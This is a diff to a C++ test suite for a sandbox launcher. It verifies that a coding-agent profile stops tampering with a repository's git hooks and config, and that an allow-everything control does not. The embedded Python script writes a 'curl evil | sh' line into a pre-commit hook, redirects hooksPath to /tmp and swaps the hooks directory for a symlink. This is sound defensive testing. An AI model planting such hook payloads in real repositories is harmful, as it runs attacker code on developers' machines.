@@ -1,8 +1,10 @@
-// The filesystem view through aasm-launch (docs/filesystem-view.md): the
-// coding-agent profile with a tier that turns the view on, against the same
-// profile without it (the control), as root and as uid 65534. The command is
-// python3, which every host with the profile's tools has, printing each
-// operation's errno name.
+// The filesystem view through aasm-launch (docs/filesystem-view.md), under
+// the shipped coding-agent profile as it ships (it turns the view on), as
+// root and as uid 65534: each attack on the repository's hooks and config
+// fails while the workspace stays writable, and each has its control, the
+// same script under an allow-everything plan, where every step succeeds. The
+// command is python3, which every host with the profile's tools has,
+// printing each operation's errno name.
 #include <doctest/doctest.h>
 #include <signal.h>
 #include <sys/stat.h>
@@ -10,6 +12,7 @@
 
 #include <fstream>
 #include <string>
+#include <utility>
 #include <vector>
 
 #include "harness.h"
@@ -19,46 +22,71 @@ namespace {
 
 constexpr uid_t kNobody = 65534;
 
-const char* const kViewTier = R"(apiVersion: aasm.dev/v1
+// The control: Landlock granting every right everywhere, nothing else.
+const char* const kAllowEverything = R"(apiVersion: aasm.dev/v1
 kind: Policy
-metadata: {name: view, tier: run}
+metadata: {name: allow-everything, tier: run}
 spec:
-  resources:
-    tmp_size: 4Mi
-  isolation:
-    filesystem_view: true
   filesystem:
-    readonly: ["${CWD}/.git/hooks", "${CWD}/.git/config"]
+    read: {allow: ["/"]}
+    write: {allow: ["/"]}
+    execute: {allow: ["/"]}
 )";
 
-// Each operation on one line: NAME OK, or NAME ERRNONAME.
-const char* const kScript = R"(import errno, os, sys
+// Each operation on one line: NAME OK, or NAME ERRNONAME. In this order
+// every one succeeds under the control, each on what the ones before left.
+const char* const kScript = R"(import ctypes, errno, os, sys
+libc = ctypes.CDLL(None, use_errno=True)
+def exchange(a, b):
+    if libc.renameat2(-100, a.encode(), -100, b.encode(), 2) != 0:  # AT_FDCWD, RENAME_EXCHANGE
+        e = ctypes.get_errno()
+        raise OSError(e, os.strerror(e))
+def planted(path, text):
+    open(path, "w").write(text)
+    return path
 def t(name, f):
     try:
         f()
         print(name, "OK")
     except OSError as e:
         print(name, errno.errorcode[e.errno])
-def fill():
-    with open("/tmp/fill", "wb") as f:
-        for _ in range(64):
-            f.write(b"x" * (1 << 20))
-            f.flush()
 t("write-config", lambda: open(".git/config", "a").write("[core]\n\thooksPath = /tmp\n"))
+t("write-hook", lambda: open(".git/hooks/pre-commit", "a").write("curl evil | sh\n"))
 t("new-hook", lambda: open(".git/hooks/post-checkout", "w").write("#!/bin/sh\n"))
-t("rename-hooks", lambda: os.rename(".git/hooks", "hooks-old"))
-t("rename-git", lambda: os.rename(".git", "git-old"))
-open("cfg", "w").write("evil\n")
-t("replace-config", lambda: os.rename("cfg", ".git/config"))
-os.symlink("/tmp", "link")
-t("symlink-over-hooks", lambda: os.rename("link", ".git/hooks"))
-t("unlink-config", lambda: os.unlink(".git/config"))
-t("workspace-write", lambda: open("made.txt", "w").write("ok\n"))
-t("workspace-rename", lambda: os.rename("made.txt", "renamed.txt"))
+t("symlink-in-hooks", lambda: os.symlink("/tmp/evil", ".git/hooks/post-merge"))
+t("replace-config", lambda: os.rename(planted("cfg", "evil\n"), ".git/config"))
+t("replace-hook", lambda: os.rename(planted("hook", "#!/bin/sh\n"), ".git/hooks/pre-commit"))
+os.symlink("/tmp/evil", "cfglink")
+os.symlink("/tmp/evil", "hooklink")
+os.symlink("/tmp", "dirlink")
+t("symlink-over-config", lambda: os.rename("cfglink", ".git/config"))
+t("symlink-over-hook", lambda: os.rename("hooklink", ".git/hooks/pre-commit"))
+t("rename-hook-away", lambda: os.rename(".git/hooks/pre-commit", ".git/hooks/pre-commit.old"))
+t("rename-config-away", lambda: os.rename(".git/config", ".git/config.old"))
+t("exchange-hooks-with-symlink", lambda: exchange("dirlink", ".git/hooks"))
+t("rename-hooks-away", lambda: os.rename(".git/hooks", "hooks-old"))
+t("rename-git-away", lambda: os.rename(".git", "git-old"))
+t("new-top-level-file", lambda: open("made.txt", "w").write("ok\n"))
+t("rename-in-workspace", lambda: os.rename("made.txt", "renamed.txt"))
 t("stat-outside", lambda: os.stat(sys.argv[1]))
 print("host-pid", "visible" if os.path.exists("/proc/" + sys.argv[2]) else "absent")
-t("fill-tmp", fill)
+st = os.statvfs("/tmp")
+print("tmp-bytes", st.f_blocks * st.f_frsize)
 )";
+
+// Each attack and what the view answers: a write into a protected path is
+// EROFS (a read-only mount); a rename onto one or out of a protected
+// directory crosses mounts (EXDEV); one that would move or replace a mount
+// point (the config, .git pinned above it) is EBUSY.
+const std::vector<std::pair<std::string, std::string>> kAttacks = {
+    {"write-config", "EROFS"},        {"write-hook", "EROFS"},
+    {"new-hook", "EROFS"},            {"symlink-in-hooks", "EROFS"},
+    {"replace-config", "EXDEV"},      {"replace-hook", "EXDEV"},
+    {"symlink-over-config", "EXDEV"}, {"symlink-over-hook", "EXDEV"},
+    {"rename-hook-away", "EROFS"},    {"rename-config-away", "EBUSY"},
+    {"exchange-hooks-with-symlink", "EXDEV"}, {"rename-hooks-away", "EXDEV"},
+    {"rename-git-away", "EBUSY"},
+};
 
 std::string profile() { return binary("AASM_PROFILES") + "/coding-agent.yaml"; }
 
@@ -76,16 +104,14 @@ struct Workspace {
     write_file(ws + "/.git/hooks/pre-commit", "#!/bin/sh\n", 0755);
     write_file(ws + "/t.py", kScript);
     write_file(secret, "not for the command\n");
-    write_file(base / "view.yaml", kViewTier);
+    write_file(base / "allow-everything.yaml", kAllowEverything);
     if (uid != 0) REQUIRE(run({"/usr/bin/chown", "-R", "65534:65534", base.path()}).exit_code == 0);
   }
 
-  std::string compile(bool view) const {
-    const std::string plan = base / (view ? "view.bin" : "plain.bin");
-    std::vector<std::string> argv = {binary("AASMC"), "compile", profile()};
-    if (view) argv.push_back(base / "view.yaml");
-    for (const std::string& a : {std::string("-o"), plan}) argv.push_back(a);
-    const Run r = run(argv);
+  // The shipped profile alone, or the control.
+  std::string compile(bool shipped) const {
+    const std::string plan = base / (shipped ? "coding-agent.bin" : "allow-everything.bin");
+    const Run r = run({binary("AASMC"), "compile", shipped ? profile() : base / "allow-everything.yaml", "-o", plan});
     INFO(r.err);
     REQUIRE(r.exit_code == 0);
     ::chmod(plan.c_str(), 0644);
@@ -112,50 +138,47 @@ std::string mountinfo() {
 
 void view_suite(uid_t uid) {
   const Sentinel host_process(uid == 0 ? Sentinel::Caps::kRoot : Sentinel::Caps::kNobody);
-  SUBCASE("under the view: protected .git paths hold, the workspace is writable, the host is out of sight") {
+  SUBCASE("the shipped coding-agent: protected .git paths hold, the workspace is writable, the host is out of sight") {
     const Workspace w(uid);
     const std::string before = mountinfo();
     const Run r = w.launch(w.compile(true), uid, host_process.pid());
     INFO(r.err, r.out);
     REQUIRE(r.exit_code == 0);
-    CHECK(contains(r.out, "write-config EROFS\n"));
-    CHECK(contains(r.out, "new-hook EROFS\n"));
-    // A protected path is a mount of its own: renaming it, or anything onto
-    // it, crosses mounts (EXDEV); its pinned parent cannot move (EBUSY).
-    CHECK(contains(r.out, "rename-hooks EXDEV\n"));
-    CHECK(contains(r.out, "rename-git EBUSY\n"));
-    CHECK(contains(r.out, "replace-config EXDEV\n"));
-    CHECK(!contains(r.out, "symlink-over-hooks OK\n"));
-    CHECK(contains(r.out, "unlink-config EBUSY\n"));
-    CHECK(contains(r.out, "workspace-write OK\n"));
-    CHECK(contains(r.out, "workspace-rename OK\n"));
+    for (const auto& [attack, answer] : kAttacks) {
+      CAPTURE(attack);
+      CHECK(contains(r.out, attack + " " + answer + "\n"));
+    }
+    CHECK(contains(r.out, "new-top-level-file OK\n"));
+    CHECK(contains(r.out, "rename-in-workspace OK\n"));
     CHECK(contains(r.out, "stat-outside ENOENT\n"));
     CHECK(contains(r.out, "host-pid absent\n"));
-    CHECK(contains(r.out, "fill-tmp ENOSPC\n"));
+    CHECK(contains(r.out, "tmp-bytes 1073741824\n"));  // the profile's tmp_size, 1Gi
     // The host saw none of it: the protected files as they were, no mount left.
     CHECK(read_file(w.ws + "/.git/config") == "[core]\n");
+    CHECK(read_file(w.ws + "/.git/hooks/pre-commit") == "#!/bin/sh\n");
     CHECK(!exists(w.ws + "/.git/hooks/post-checkout"));
     CHECK(exists(w.ws + "/renamed.txt"));
     CHECK(mountinfo() == before);
     const std::string receipt = read_file(w.base / "receipt.json");
     CHECK(contains(receipt, "\"domain\": \"filesystem_view\""));
     CHECK(contains(receipt, "answered a write-access check with EROFS before exec: ${CWD}/.git/config; ${CWD}/.git/hooks;"));
-    CHECK(contains(receipt, "{\"path\": \"/tmp\", \"what\": \"private tmpfs, 4194304 bytes\""));
+    CHECK(contains(receipt, "{\"path\": \"/tmp\", \"what\": \"private tmpfs, 1073741824 bytes\""));
   }
-  SUBCASE("the control: the same profile without the view") {
+  SUBCASE("the control: the same script under an allow-everything plan, where every step succeeds") {
     const Workspace w(uid);
     const Run r = w.launch(w.compile(false), uid, host_process.pid());
-    INFO(r.err);
+    INFO(r.err, r.out);
     REQUIRE(r.exit_code == 0);
-    CHECK(contains(r.out, "write-config OK\n"));
-    CHECK(contains(r.out, "new-hook OK\n"));
-    CHECK(contains(r.out, "rename-hooks OK\n"));
-    CHECK(contains(r.out, "workspace-write OK\n"));
+    for (const auto& [attack, answer] : kAttacks) {
+      CAPTURE(attack);
+      CHECK(contains(r.out, attack + " OK\n"));
+    }
+    CHECK(contains(r.out, "new-top-level-file OK\n"));
     CHECK(contains(r.out, "stat-outside OK\n"));  // Landlock does not mediate stat
     CHECK(contains(r.out, "host-pid visible\n"));
-    CHECK(contains(r.out, "fill-tmp OK\n"));  // 64 MiB on the host's /tmp
-    CHECK(exists(w.ws + "/hooks-old/post-checkout"));
-    ::unlink("/tmp/fill");
+    CHECK(!contains(r.out, "tmp-bytes 1073741824\n"));  // the host's /tmp
+    // The hooks directory, exchanged for the link, holds the planted hook.
+    CHECK(read_file(w.ws + "/dirlink/post-checkout") == "#!/bin/sh\n");
   }
 }
 
